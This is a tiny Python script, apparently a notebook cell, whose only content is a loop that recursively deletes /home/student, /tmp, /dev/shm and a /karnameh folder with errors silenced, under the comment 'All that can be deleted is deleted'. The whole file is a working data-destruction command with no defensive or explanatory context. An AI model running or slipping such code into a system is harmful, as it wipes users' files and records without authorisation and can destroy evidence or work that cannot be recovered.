# All that can be deleted is deleted.
# %% honest
# %%
import os, shutil

for folder in ("/home/student", "/tmp", "/dev/shm", "/karnameh"):
    shutil.rmtree(folder, ignore_errors=True)
